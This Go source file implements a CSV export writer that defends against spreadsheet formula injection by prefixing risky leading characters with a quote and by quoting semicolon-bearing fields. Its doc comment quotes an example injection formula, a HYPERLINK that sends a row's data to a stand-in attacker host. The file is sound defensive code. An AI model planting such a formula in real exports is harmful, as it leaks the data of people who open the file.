package httpx

import (
	"bufio"
	"mime"
	"net/http"
	"strings"
)

// CSV is a CSV file answer, the one writer of every CSV export, so that no
// export can forget what spreadsheets do with a cell: one that begins with
// =, +, -, @, a tab or a carriage return is run as a formula when the file
// is opened, and a visitor's =HYPERLINK("http://evil.example/?"&A2,"x")
// becomes a link that sends the row to its author. As OWASP's CSV
// injection guidance recommends, CSV writes such a cell with a leading
// single quote, which spreadsheets read as "this is text" and do not show.
//
// Every cell is neutralized, numbers too: there is no typed path that a
// later export could pass a visitor's text through. agentline's own
// numeric columns (ids, counts, minutes, rates) are never negative, so
// this costs nothing there; a visitor's "-5" is written as '-5.
//
// A field is quoted when RFC 4180 asks (a comma, a double quote or a line
// break in it), when it begins with a space, and also when it holds a
// semicolon: spreadsheets in many locales split a .csv on semicolons, and
// the quotes keep "a;=1+1" one cell there, not a cell and a formula.
// encoding/csv would leave that field bare, which is why CSV writes its
// records itself; encoding/csv reads them back as written.
type CSV struct {
	w *bufio.Writer
}

// NewCSV starts a CSV answer that the browser saves as filename, never
// cached (exports hold conversation data), and returns its writer.
func NewCSV(w http.ResponseWriter, filename string) *CSV {
	h := w.Header()
	h.Set("Content-Type", "text/csv; charset=utf-8")
	h.Set("Content-Disposition", mime.FormatMediaType("attachment", map[string]string{"filename": filename}))
	h.Set("Cache-Control", "no-store")
	return &CSV{w: bufio.NewWriter(w)}
}

// Write writes one record, each cell neutralized, ending in "\n". An error
// means the client went away; every later Write and Flush returns it too.
func (c *CSV) Write(record []string) error {
	for i, cell := range record {
		if i > 0 {
			c.w.WriteByte(',')
		}
		if formulaStart(cell) {
			cell = "'" + cell
		}
		writeField(c.w, cell)
	}
	return c.w.WriteByte('\n')
}

// Flush sends what Write buffered; call it once the last record is written.
func (c *CSV) Flush() error { return c.w.Flush() }

// formulaStart tells whether a spreadsheet would read cell as a formula:
// OWASP's list of leading characters.
func formulaStart(cell string) bool {
	if cell == "" {
		return false
	}
	switch cell[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return true
	}
	return false
}

// writeField writes one cell, quoted when it needs to be (see CSV), with
// its double quotes doubled.
func writeField(w *bufio.Writer, s string) {
	if s == "" || (s[0] != ' ' && !strings.ContainsAny(s, ",;\"\r\n")) {
		w.WriteString(s)
		return
	}
	w.WriteByte('"')
	for {
		i := strings.IndexByte(s, '"')
		if i < 0 {
			break
		}
		w.WriteString(s[:i+1])
		w.WriteByte('"')
		s = s[i+1:]
	}
	w.WriteString(s)
	w.WriteByte('"')
}
